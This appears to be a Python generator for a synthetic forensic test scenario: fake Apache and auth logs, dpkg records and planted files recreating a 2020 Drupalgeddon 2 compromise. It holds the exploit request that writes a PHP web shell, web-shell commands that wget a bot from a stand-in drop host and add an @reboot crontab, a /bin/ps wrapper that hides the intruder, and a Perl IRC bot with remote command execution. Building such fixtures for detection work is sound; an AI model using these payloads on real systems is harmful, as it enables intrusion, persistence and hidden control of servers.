"""Golden scenario 1, the classic: a Debian 9 box nobody patched for two years runs
Drupal 7.57. In April 2020 an address exploits Drupalgeddon 2 (CVE-2018-7600, a form
render-array injection needing no login), writes a PHP shell into sites/default/files,
drives it to drop a Perl IRC bot in /tmp/.ICE-unix with an @reboot crontab for www-data,
and (with root gained some way the logs do not show) swaps /bin/ps for a wrapper that
hides the bot, which the dpkg md5sums check catches. Benign visitors and a crawler
surround it; the admin's own sudo and logins are in auth.log."""

from __future__ import annotations

import hashlib
from datetime import datetime, timedelta, timezone
from pathlib import Path

ATTACKER = "203.0.113.200"
DROP = "203.0.113.201"
UA_EXPLOIT = "python-requests/2.18.4"
UA_SHELL = "curl/7.58.0"
BROWSERS = {
    "198.51.100.10": "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:75.0) Gecko/20100101 Firefox/75.0",
    "198.51.100.11": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/13.1 Safari/605.1.15",
    "66.249.66.1": "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
}
PAGES = [
    "/",
    "/node/1",
    "/node/2",
    "/about",
    "/contact",
    "/misc/drupal.js?q5h8v2",
    "/themes/bartik/css/style.css",
    "/sites/default/files/logo.png",
    "/node/3",
    "/user/login",
]
SHELL_URL = "/sites/default/files/.styles.php"
PAYLOAD = (
    "/?q=user/password&name%5B%23post_render%5D%5B%5D=passthru&name%5B%23type%5D=markup&name%5B%23markup%5D="
    "echo+PD9waHAgQHN5c3RlbSgkX1JFUVVFU1RbImMiXSk7Pz4K+|+base64+-d+>+sites/default/files/.styles.php"
)

PS_ORIGINAL = b"\x7fELF\x02\x01\x01\x00" + b"procps-ng ps 3.3.12 (original build)\x00" * 40
PS_TROJAN = b"""#!/bin/sh
# ps wrapper
/bin/.ps.o "$@" | grep -v -E 'ICE-unix|\\.s/httpd|perl -e'
"""
LS = b"\x7fELF\x02\x01\x01\x00" + b"coreutils ls 8.26\x00" * 50
BOT = """#!/usr/bin/perl
# shellbot
use IO::Socket::INET;
my $server = "irc.example-irc.net"; my $port = 6667; my $nick = "drp" . int(rand(9999));
my @chan = ("#drup");
my $sock = IO::Socket::INET->new(PeerAddr => $server, PeerPort => $port, Proto => "tcp") or exit;
print $sock "NICK $nick\\r\\n"; print $sock "USER $nick 8 * :$nick\\r\\n";
while (my $line = <$sock>) {
  if ($line =~ /^PING (.*)/) { print $sock "PONG $1\\r\\n"; }
  if ($line =~ /376|422/) { print $sock "JOIN $_\\r\\n" for @chan; }
  if ($line =~ /PRIVMSG (\\S+) :!udpflood (\\S+) (\\d+)/) { udpflood($2, $3); }
  if ($line =~ /PRIVMSG (\\S+) :!portscan (\\S+)/) { portscan($2); }
  if ($line =~ /PRIVMSG (\\S+) :!sh (.*)/) { my @o = `$2`; print $sock "PRIVMSG $1 :$_\\r\\n" for @o; }
}
sub udpflood { my ($ip, $t) = @_; }
sub portscan { my ($ip) = @_; }
"""


def _clf(t: datetime) -> str:
    return t.strftime("%d/%b/%Y:%H:%M:%S +0000")


def _line(
    t: datetime, ip: str, method: str, url: str, status: int, size: int, ua: str, ref: str = "-"
) -> str:
    return f'{ip} - - [{_clf(t)}] "{method} {url} HTTP/1.1" {status} {size} "{ref}" "{ua}"'


def access_log() -> list[str]:
    lines: list[tuple[datetime, str]] = []
    start = datetime(2020, 4, 10, 6, 0, tzinfo=timezone.utc)
    for i in range(6 * 24 * 3):  # every 20 minutes for six days: ordinary visitors
        t = start + timedelta(minutes=20 * i, seconds=i % 17)
        ip = list(BROWSERS)[i % 3]
        page = PAGES[i % len(PAGES)]
        ref = "https://www.example.org/" if ip != "66.249.66.1" and page != "/" else "-"
        lines.append((t, _line(t, ip, "GET", page, 200, 4000 + i % 900, BROWSERS[ip], ref)))
    a = datetime(2020, 4, 14, 22, 30, 58, tzinfo=timezone.utc)
    attack = [
        (0, ATTACKER, "GET", "/CHANGELOG.txt", 200, 109410, UA_EXPLOIT),
        (7, ATTACKER, "POST", PAYLOAD, 200, 16114, UA_EXPLOIT),
        (8, ATTACKER, "POST", "/?q=file/ajax/name/%23value/form-rAnD0mBuIlDiD", 200, 7530, UA_EXPLOIT),
        (22, ATTACKER, "GET", SHELL_URL + "?c=id", 200, 54, UA_SHELL),
        (
            63,
            ATTACKER,
            "GET",
            SHELL_URL
            + "?c=cd+/tmp;mkdir+-p+.ICE-unix/.s;wget+-q+http://"
            + DROP
            + "/b.pl+-O+.ICE-unix/.s/httpd;chmod+755+.ICE-unix/.s/httpd",
            200,
            0,
            UA_SHELL,
        ),
        (70, ATTACKER, "GET", SHELL_URL + "?c=nohup+/tmp/.ICE-unix/.s/httpd+%26", 200, 0, UA_SHELL),
        (
            101,
            ATTACKER,
            "GET",
            SHELL_URL + "?c=(crontab+-l;echo+%27@reboot+/tmp/.ICE-unix/.s/httpd%27)|crontab+-",
            200,
            0,
            UA_SHELL,
        ),
        (3600 * 5, ATTACKER, "GET", SHELL_URL + "?c=uname+-a", 200, 98, UA_SHELL),
    ]
    for off, ip, method, url, status, size, ua in attack:
        t = a + timedelta(seconds=off)
        lines.append((t, _line(t, ip, method, url, status, size, ua)))
    lines.sort(key=lambda x: x[0])
    return [line for _t, line in lines]


def auth_log() -> list[str]:
    out = []
    for day in range(10, 17):
        out.append(
            f"Apr {day} 06:25:01 shop01 CRON[{800 + day}]: pam_unix(cron:session): session opened for user "
            "root by (uid=0)"
        )
    out += [
        "Apr 13 09:02:11 shop01 sshd[1201]: Accepted publickey for alice from 198.51.100.10 port 50122 ssh2: "
        "ED25519 SHA256:Zz9aYy8bXx7cWw6dVv5eUu4fTt3gSs2hRr1iQq0jPp0",
        "Apr 13 09:02:11 shop01 sshd[1201]: pam_unix(sshd:session): session opened for user alice by (uid=0)",
        "Apr 13 09:03:40 shop01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/tail "
        "-n 50 /var/log/apache2/error.log",
        "Apr 13 09:10:02 shop01 sshd[1201]: pam_unix(sshd:session): session closed for user alice",
    ]
    return sorted(out, key=lambda s: (int(s[4:6]), s[7:15]))


def dpkg(root: Path) -> None:
    info = root / "var/lib/dpkg/info"
    info.mkdir(parents=True, exist_ok=True)
    status = []
    for name, version, files in (
        ("procps", "2:3.3.12-3+deb9u1", {"bin/ps": PS_ORIGINAL}),
        ("coreutils", "8.26-3", {"bin/ls": LS}),
    ):
        status.append(
            f"Package: {name}\nStatus: install ok installed\nPriority: required\nArchitecture: amd64\n"
            f"Version: {version}\nDescription: {name}\n"
        )
        (info / f"{name}.md5sums").write_text(
            "".join(f"{hashlib.md5(c).hexdigest()}  {p}\n" for p, c in files.items())
        )
        (info / f"{name}.list").write_text("".join(f"/{p}\n" for p in files))
    (root / "var/lib/dpkg/status").write_text("\n".join(status))
    (root / "var/log/dpkg.log").write_text(
        "2018-03-29 07:12:40 startup archives unpack\n"
        "2018-03-29 07:12:41 upgrade procps:amd64 2:3.3.12-3 2:3.3.12-3+deb9u1\n"
        "2018-03-29 07:12:44 status installed procps:amd64 2:3.3.12-3+deb9u1\n"
    )


def generate(root: Path) -> None:
    (root / "var/log/apache2").mkdir(parents=True, exist_ok=True)
    (root / "var/log/apache2/access.log").write_text("\n".join(access_log()) + "\n")
    (root / "var/log/auth.log").write_text("\n".join(auth_log()) + "\n")
    (root / "bin").mkdir(parents=True, exist_ok=True)
    (root / "bin/ps").write_bytes(PS_TROJAN)
    (root / "bin/.ps.o").write_bytes(PS_ORIGINAL)
    (root / "bin/ls").write_bytes(LS)
    dpkg(root)
    bot = root / "tmp/.ICE-unix/.s/httpd"
    bot.parent.mkdir(parents=True, exist_ok=True)
    bot.write_text(BOT)
